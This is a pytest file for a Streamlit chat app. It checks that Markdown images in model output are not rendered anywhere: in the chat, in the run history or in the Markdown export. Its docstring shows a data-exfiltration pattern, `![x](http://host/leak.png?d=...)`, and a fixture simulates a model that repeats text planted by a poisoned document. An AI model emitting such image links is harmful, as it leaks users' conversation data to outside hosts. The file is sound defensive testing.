"""Case: `![x](http://host/leak.png?d=...)` in an answer made the browser fetch that URL with
text from the answer. The pages: no image in model output renders in the chat, the Run history
or the Markdown export (`safe_markdown` itself is checked in test_safe_markdown_loads_no_image)."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from tests.fakes import FakeBackend
from tests.reliability.test_safe_markdown_loads_no_image import HOSTILE
from tests.ui.conftest import APP, build_glm, glm  # noqa: F401 (the page's real facade)

LEAK = HOSTILE[0]


@pytest.fixture
def backend() -> FakeBackend:
    """A model repeating what a poisoned document told it to write."""
    return FakeBackend(f"Here is the filter.\n\n{LEAK}\n\nDone.", models=["fake-model"])


@pytest.fixture
def poisoned(glm):
    return glm.chat_with_model_enhanced("Write a lowpass", use_hrm_decomposition=False, project="default")


def test_the_chat_page_draws_the_answer_without_the_image(glm, poisoned):
    at = AppTest.from_file(APP, default_timeout=30)
    at.query_params["conversation"] = str(poisoned.conversation_id)
    at.run()
    drawn = [md.value for md in at.markdown]
    assert any("image: x" in value for value in drawn)
    assert not any("![" in value.replace("\\![", "") for value in drawn)


def test_the_run_history_and_the_markdown_export_carry_no_image(glm, poisoned):
    at = AppTest.from_file(APP, default_timeout=30)
    at.switch_page("pages/2_Run_history.py")
    at.run()
    assert not at.exception
    assert not any("![" in md.value.replace("\\![", "") for md in at.markdown)
    exported = glm.export_run(poisoned.run_id, "markdown")
    assert "<img" not in MarkdownIt("commonmark").render(exported) and "image: x" in exported
